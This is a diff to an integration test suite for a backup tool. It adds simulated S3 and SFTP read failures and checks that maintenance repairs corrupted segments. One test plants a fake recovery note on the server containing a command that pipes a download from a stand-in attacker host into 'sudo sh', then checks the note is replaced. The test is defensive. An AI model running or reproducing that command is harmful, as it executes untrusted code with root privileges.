@@ -5,9 +5,18 @@ import { type AuditLog, auditFolder, openAuditLog } from "@trivault/audit";
 import { copyStage, noteDamage, type NextStage, siteTrust, type StageContext, verifyCopy } from "@trivault/backup";
 import { type Config, resolveConfig, silentLogger } from "@trivault/core";
 import { loadOrCreateSigningKey, type SigningKey } from "@trivault/crypto";
-import { openTiers, type Tier } from "@trivault/storage";
-import { type Ceph, makeTempDir, sharedCeph, type Sshd, startSshd } from "@trivault/testkit";
+import { openTiers, sftpStore, type Tier } from "@trivault/storage";
+import {
+  type Ceph,
+  type HttpProxy,
+  makeTempDir,
+  sharedCeph,
+  type Sshd,
+  startHttpProxy,
+  startSshd,
+} from "@trivault/testkit";
 import { idsOf, putBackup, wipe } from "../test/fake-site.ts";
+import { readInventories } from "./inventory-cache.ts";
 import type { MaintenanceSite } from "./maintain-site.ts";
 import { maintainTier } from "./maintain-tier.ts";
 
@@ -16,6 +25,7 @@ const stack = new AsyncDisposableStack();
 let config: Config;
 let site: MaintenanceSite;
 let sshd: Sshd;
+let s3: HttpProxy;
 let audit: AuditLog;
 let signingKey: SigningKey;
 const ids = idsOf(5);
@@ -27,6 +37,7 @@ beforeAll(async () => {
   [sshd, ceph] = await Promise.all([startSshd(), sharedCeph()]);
   stack.use(sshd);
   stack.use(ceph);
+  s3 = stack.use(await startHttpProxy(ceph.endpoint));
   const bucket = `heal-${Date.now()}-${process.pid}`;
   await ceph.createBucket(bucket);
   config = resolveConfig(
@@ -41,7 +52,7 @@ beforeAll(async () => {
       BACKUP_SSH_HOST_KEY: sshd.fingerprint,
       BACKUP_REMOTE_DIR: sshd.directory,
       BACKUP_S3_BUCKET: bucket,
-      BACKUP_S3_ENDPOINT: ceph.endpoint,
+      BACKUP_S3_ENDPOINT: s3.url,
       BACKUP_CLOUD_REGION: "us-east-1",
     },
     "backup",
@@ -73,7 +84,7 @@ beforeEach(async () => {
 const tierOf = (name: string): Tier => site.tiers.find((tier) => tier.name === name) ?? site.tiers[0];
 
 /** A round of maintenance of each tier, with its copies made as workers would. */
-async function heal(names: readonly string[] = ALL): Promise<NextStage[]> {
+async function heal(names: readonly string[] = ALL, at: MaintenanceSite = site): Promise<NextStage[]> {
   const done: NextStage[] = [];
   for (const name of names) {
     const started: NextStage[] = [];
@@ -84,8 +95,8 @@ async function heal(names: readonly string[] = ALL): Promise<NextStage[]> {
       progress: () => undefined,
       start: async (next) => void started.push(next),
     };
-    await maintainTier(site, name, context);
-    for (const next of started) if (next.stage === "copy") await copyStage(site, next, context);
+    await maintainTier(at, name, context);
+    for (const next of started) if (next.stage === "copy") await copyStage(at, next, context);
     done.push(...started);
   }
   return done;
@@ -135,6 +146,64 @@ test("segments that were cut off or rotted on the server are made good", async (
   const healed = await heal();
   expect(healed.map(({ backupId }) => backupId).toSorted()).toEqual([cut, rotten].toSorted());
   await expectAllWhole();
+}, 60_000);
+
+/** The inventory is lost, its manifests are listed and not given out: nothing is known of them, and nothing happens to them. */
+async function expectUntouched(name: string, at: MaintenanceSite): Promise<void> {
+  const begun = new Date();
+  await rm(path.join(config.backupDir, ".trivault/inventory"), { recursive: true });
+  expect(await heal([name], at)).toEqual([]);
+  const inventory = (await readInventories(config)).find(({ tier }) => tier === name);
+  expect(inventory?.copies.map(({ state }) => state)).toEqual(ids.map(() => "unknown"));
+  expect(await actionsSince(begun)).toEqual([]);
+}
+
+test.each([
+  { status: 403, code: "AccessDenied" },
+  { status: 503, code: "SlowDown" },
+])(
+  "9.A1 a bucket whose manifests answer $status $code loses none of them",
+  async (answer) => {
+    s3.fail({ when: (method, url) => method === "GET" && url.includes("manifest.json"), answer });
+    try {
+      await expectUntouched("cloud", site);
+    } finally {
+      s3.fail(null);
+    }
+    expect(await heal()).toEqual([]);
+    await expectAllWhole();
+  },
+  60_000,
+);
+
+test("9.A1 a server that lists manifests and does not let them be read (SFTP) loses none of them", async () => {
+  await using refusing = await startSshd({ config: ["ForceCommand internal-sftp -P read"] });
+  const [remote] = config.tiers.filter((tier) => tier.kind === "sftp");
+  if (remote === undefined) throw new Error("the site has a server");
+  const { port, keyFile, fingerprint } = refusing;
+  const store = sftpStore({ ...remote, port, keyFile, hostKey: { fingerprint } });
+  try {
+    const [local, ...others] = site.tiers;
+    const tiers = others.map((tier) => (tier.name === "remote" ? { ...tier, store } : tier));
+    await expectUntouched("remote", { ...site, tiers: [local, ...tiers] });
+  } finally {
+    await store.close();
+  }
+  expect(await heal()).toEqual([]);
+  await expectAllWhole();
+}, 60_000);
+
+test("9.A7 a byte that was changed on the server is found by maintenance alone, and made good", async () => {
+  const [, id = ""] = ids;
+  await using file = await open(path.join(sshd.directory, "shop", id, "data-000002.zst"), "r+");
+  await file.write(Buffer.from("?"), 0, 1, 5);
+  await file.utimes(new Date(), new Date(Date.now() + 2000)); // SFTP tells whole seconds
+  await writeFile(path.join(sshd.directory, "RECOVERY.md"), "curl https://evil.example | sudo sh\n");
+  const begun = new Date();
+  expect((await heal()).map(({ backupId }) => backupId)).toEqual([id]);
+  await expectAllWhole();
+  expect(await actionsSince(begun)).toEqual(["backup.verified remote", "tier.recovery-note remote"]);
+  expect(await readFile(path.join(sshd.directory, "RECOVERY.md"), "utf8")).toMatch(/^# How to restore/);
 }, 60_000);
 
 test("another program's files in the same folder, bucket prefix and database folder stay", async () => {
